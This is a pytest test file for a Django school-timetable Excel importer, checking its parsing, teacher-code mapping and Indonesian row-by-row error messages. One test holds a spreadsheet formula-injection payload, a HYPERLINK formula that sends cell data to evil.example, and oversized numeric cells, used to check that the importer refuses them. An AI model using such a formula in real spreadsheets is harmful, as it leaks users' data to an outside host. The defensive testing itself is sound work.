"""The teaching timetable from Excel (issue 19 item 5): the list form (our template, FET's list) and the
class grid (aSc Timetables, FET), teacher codes asked once and remembered, every bad row listed in
Indonesian with its row and nothing written, hostile cells refused at their row."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from madrasah.models import Lesson, Subject, TeacherCode
from tests.factories import timetable
from tests.factories.madrasah import StaffFactory
from tests.factories.timetable import LIST_HEADER, xlsx

IMPORT = "/jadwal/impor/"


@pytest.fixture
def week(madrasah):
    semester = madrasah.semesters.get()
    timetable.bells(madrasah)
    classes = timetable.classes(semester)
    math = Subject.objects.get(code="matematika")
    ipa = Subject.objects.get(code="ipa")
    ani = StaffFactory(madrasah=madrasah, name="Ani Rahmawati", nip="")
    ani.subjects.add(math)
    budi = StaffFactory(madrasah=madrasah, name="Budi Santoso", nip="")
    budi.subjects.add(ipa)
    bk = StaffFactory(madrasah=madrasah, name="Citra Dewi", nip="", teacher_type="bk")
    TeacherCode.objects.create(madrasah=madrasah, code="AR", staff=ani)
    TeacherCode.objects.create(madrasah=madrasah, code="BS", staff=budi)
    TeacherCode.objects.create(madrasah=madrasah, code="CD", staff=bk)
    return {"semester": semester, "classes": classes, "ani": ani, "budi": budi, "bk": bk, "math": math, "ipa": ipa}


def upload(client, content: bytes, **data):
    return client.post(IMPORT, {"file": SimpleUploadedFile("jadwal.xlsx", content), **data})


def with_value(content: bytes, old: str, new: str) -> bytes:
    """The workbook with a number cell's stored text replaced (openpyxl cannot write 1e400 itself)."""
    source, output = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(output, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = data.replace(f"<v>{old}</v>".encode(), f"<v>{new}</v>".encode())
            target.writestr(item, data)
    return output.getvalue()


def errors(response) -> list[str]:
    return [str(issue) for issue in response.context["errors"]]


def lessons(semester) -> set[tuple]:
    return set(
        Lesson.objects.filter(semester=semester).values_list(
            "weekday", "number", "school_class__name", "subject__code", "teacher__name", "kind"
        )
    )


def test_the_list_form_replaces_the_timetable_and_a_counsellor_gets_counselling_periods(login, operator, week):
    client = login(operator)
    content = xlsx(
        (
            "Jadwal",
            [
                LIST_HEADER,
                ["Senin", 1, "VII-A", "MTK", "AR"],
                ["Senin", 2, "VII-A", "Matematika", "AR"],
                ["Senin", "07.30", "VII-B", "IPA", "BS"],  # the start of period 1 on Monday
                ["Selasa", "jam ke-3", "7B", "IPA", "BS"],  # 7B is VII-B
                ["Rabu", 2, "VIII-A", "BK", "CD"],
                ["Kamis", 4, "", "", "CD"],
            ],
        )
    )
    timetable.lesson(week["semester"], teacher=week["budi"], weekday=5, number=1)  # the old timetable

    response = upload(client, content)

    assert response.status_code == 302
    assert lessons(week["semester"]) == {
        (0, 1, "VII-A", "matematika", "Ani Rahmawati", "mapel"),
        (0, 2, "VII-A", "matematika", "Ani Rahmawati", "mapel"),
        (0, 1, "VII-B", "ipa", "Budi Santoso", "mapel"),
        (1, 3, "VII-B", "ipa", "Budi Santoso", "mapel"),
        (2, 2, "VIII-A", "bk", "Citra Dewi", "bk"),
        (3, 4, None, None, "Citra Dewi", "bk"),
    }
    assert "6 jam pelajaran dalam jadwal." in client.get("/jadwal/").content.decode()


def test_fet_list_headers_are_read_as_the_template(login, operator, week):
    content = xlsx(
        (
            "timetable",
            [
                ["Activity Id", "Day", "Hour", "Students Sets", "Subject", "Teachers", "Activity Tags", "Room"],
                [1, "Monday", "07:30", "7A", "Matematika", "AR", "", "R1"],
                [2, "Tuesday", "07:00", "7A+7B", "IPA", "BS", "", "Lab"],
            ],
        )
    )
    response = upload(login(operator), content)
    assert response.status_code == 302, (
        errors(response),
        response.context["form"].errors,
        response.context.get("notice"),
    )
    assert {(w, n, c) for w, n, c, *_rest in lessons(week["semester"])} == {
        (0, 1, "VII-A"),
        (1, 1, "VII-A"),
        (1, 1, "VII-B"),
    }


def test_the_class_grid_of_asc_with_merged_day_cells_and_break_rows(login, operator, week):
    content = xlsx(
        (
            "Kelas",
            [
                ["JADWAL PELAJARAN MTsN 3 PAMEKASAN"],
                ["Hari", "Jam", "VII-A", "VII-B", "VIII-A"],
                ["Senin", "1", "MTK / AR", "IPA / BS", None],
                [None, "2", "MTK/AR", None, "BK / CD"],
                [None, "Istirahat", None, None, None],
                ["Selasa", "07.00-07.40", "IPA\nBS", "MTK (AR)", None],
            ],
        )
    )
    response = upload(login(operator), content)
    assert response.status_code == 302, errors(response)
    assert {(w, n, c, s) for w, n, c, s, *_rest in lessons(week["semester"])} == {
        (0, 1, "VII-A", "matematika"),
        (0, 1, "VII-B", "ipa"),
        (0, 2, "VII-A", "matematika"),
        (0, 2, "VIII-A", "bk"),
        (1, 1, "VII-A", "ipa"),
        (1, 1, "VII-B", "matematika"),
    }


def test_a_grid_of_one_sheet_per_day_as_fet_prints_it(login, operator, week):
    content = xlsx(
        ("Senin", [["Jam", "VII-A", "VII-B"], [1, "MTK / AR", "IPA / BS"]]),
        ("Rabu", [["Jam", "VII-A", "VII-B"], [3, "IPA / BS", "MTK / AR"]]),
    )
    assert upload(login(operator), content).status_code == 302
    assert {(w, n, c) for w, n, c, *_rest in lessons(week["semester"])} == {
        (0, 1, "VII-A"),
        (0, 1, "VII-B"),
        (2, 3, "VII-A"),
        (2, 3, "VII-B"),
    }


def test_an_unknown_code_is_asked_once_and_remembered_for_the_next_imports(login, operator, week, madrasah):
    client = login(operator)
    dewi = StaffFactory(madrasah=madrasah, name="Dewi Lestari", nip="")
    content = xlsx(("Jadwal", [LIST_HEADER, ["Senin", 1, "VII-A", "IPS", "DL"], ["Senin", 2, "VII-A", "IPS", "DL"]]))

    asked = upload(client, content)

    assert asked.status_code == 400
    page = asked.content.decode()
    assert "1 kode guru belum dikenal" in page
    assert 'data-testid="code-mapping"' in page and "<code>DL</code>" in page
    assert Lesson.objects.count() == 0 and not TeacherCode.objects.filter(code="DL").exists()

    answered = upload(client, content, code_0="DL", staff_0=dewi.pk)

    assert answered.status_code == 302
    assert TeacherCode.objects.get(madrasah=madrasah, code="DL").staff == dewi
    assert Lesson.objects.filter(teacher=dewi).count() == 2

    again = upload(client, xlsx(("Jadwal", [LIST_HEADER, ["Kamis", 1, "VII-B", "IPS", "dl"]])))

    assert again.status_code == 302
    assert list(Lesson.objects.values_list("teacher__name", "weekday")) == [("Dewi Lestari", 3)]


def test_a_code_cannot_be_mapped_to_another_madrasahs_teacher(login, operator, week, other_madrasah):
    stranger = StaffFactory(madrasah=other_madrasah, nip="")
    content = xlsx(("Jadwal", [LIST_HEADER, ["Senin", 1, "VII-A", "IPS", "XX"]]))
    response = upload(login(operator), content, code_0="XX", staff_0=stranger.pk)
    assert response.status_code == 400
    assert not TeacherCode.objects.filter(code="XX").exists() and Lesson.objects.count() == 0


def test_every_bad_row_is_listed_by_row_in_indonesian_and_nothing_is_written(login, operator, week):
    timetable.lesson(week["semester"], teacher=week["budi"], weekday=5, number=1)
    content = xlsx(
        (
            "Jadwal",
            [
                LIST_HEADER,
                ["Senin", 1, "VII-A", "MTK", "AR"],  # row 2: fine
                ["Senin", 1, "VII-B", "MTK", "AR"],  # row 3: Ani in two classes at once
                ["Senin", 1, "VII-A", "IPA", "BS"],  # row 4: VII-A has two lessons at once
                ["Senin", 2, "IX-Z", "IPA", "BS"],  # row 5: unknown class
                ["Senin", 3, "VII-B", "Astronomi", "BS"],  # row 6: unknown subject
                ["Jumat", 5, "VII-B", "IPA", "BS"],  # row 7: Friday has 3 periods
                ["Minggu", 1, "VII-B", "IPA", "BS"],  # row 8: closed on Sunday
                ["Selasa", "13.00", "VII-B", "IPA", "BS"],  # row 9: no period starts then
                ["Rabu", 1, "VII-B", "IPA", ""],  # row 10: no teacher
            ],
        )
    )

    response = upload(login(operator), content)

    assert response.status_code == 400
    assert "Tidak ada yang diimpor: berkas ini memiliki 8 kesalahan." in response.content.decode()
    assert errors(response) == [
        "Baris 3: Ani Rahmawati, S.Pd. sudah mengajar di kelas VII-A pada Senin jam ke-1 (baris 2): "
        "seorang guru tidak dapat berada di dua kelas sekaligus.",
        "Baris 4: Kelas VII-A sudah ada pelajaran pada Senin jam ke-1 (baris 2).",
        "Baris 5: Kelas IX-Z tidak ada dalam daftar kelas 2026/2027.",
        "Baris 6: Astronomi bukan mata pelajaran madrasah ini.",
        "Baris 7: Jumat tidak memiliki jam ke-5: di luar hari sekolah (jam bel).",
        "Baris 8: Madrasah tidak masuk pada hari Minggu (hari sekolah).",
        "Baris 9: Tidak ada jam pelajaran hari itu yang mulai pukul 13.00: waktu itu di luar jam bel hari sekolah.",
        "Baris 10: Guru belum diisi.",
    ]
    assert lessons(week["semester"]) == {(5, 1, None, None, "Budi Santoso", "mapel")}  # the old one stays


def test_hostile_cells_are_refused_at_their_row(login, operator, week):
    content = xlsx(
        (
            "Jadwal",
            [
                LIST_HEADER,
                ["Senin", 1, "VII-A", "MTK", '=HYPERLINK("http://evil.example/?"&A1,"klik")'],
                ["Senin", 987654321, "VII-A", "MTK", "AR"],  # becomes 1e400 below
                ["Senin", 2, 12345678901234567890, "MTK", "AR"],
                ["Senin", 10**30, "VII-A", "MTK", "AR"],
                ["Senin", 3, "VII-A", "MTK", 12345678901234567890],
            ],
        )
    )
    response = upload(login(operator), with_value(content, "987654321", "1e400"))
    assert response.status_code == 400
    found = errors(response)
    assert found[0].startswith("Baris 2: Sel berisi rumus (=HYPERLINK(")
    assert [text.split(":")[0] for text in found] == ["Baris 2", "Baris 3", "Baris 4", "Baris 5", "Baris 6"]
    assert all("terlalu besar" in text for text in found[1:])
    assert Lesson.objects.count() == 0


def test_a_file_that_is_not_a_timetable_is_refused_whole(login, operator, week):
    response = upload(login(operator), xlsx(("Data", [["Nama", "NIP"], ["Ani", "1"]])))
    assert response.status_code == 400
    assert "Baris judul tidak ditemukan" in response.content.decode()
    response = upload(login(operator), b"not a workbook")
    assert "bukan buku kerja Excel" in response.content.decode()


def test_the_template_is_the_list_form_with_instructions(login, operator):
    response = login(operator).get("/jadwal/templat/")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="templat-jadwal-pelajaran.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    assert [c.value for c in workbook["Jadwal"][1]] == ["Hari", "Jam Ke", "Kelas", "Mapel", "Guru"]
    assert "Petunjuk" in workbook.sheetnames


def test_the_template_filled_in_imports(login, operator, week):
    client = login(operator)
    workbook = load_workbook(io.BytesIO(client.get("/jadwal/templat/").content))
    for column, value in enumerate(["Sabtu", "1", "VIII-A", "IPA", "BS"], start=1):
        workbook["Jadwal"].cell(row=2, column=column, value=value)
    output = io.BytesIO()
    workbook.save(output)
    assert upload(client, output.getvalue()).status_code == 302
    assert lessons(week["semester"]) == {(5, 1, "VIII-A", "ipa", "Budi Santoso", "mapel")}


def test_the_import_needs_bell_times_and_classes_first(login, operator, madrasah):
    StaffFactory(madrasah=madrasah, name="Ani", nip="")
    response = upload(login(operator), xlsx(("Jadwal", [LIST_HEADER, ["Senin", 1, "VII-A", "MTK", "Ani"]])))
    assert response.status_code == 400
    assert "Isi jam bel lebih dahulu" in response.content.decode()
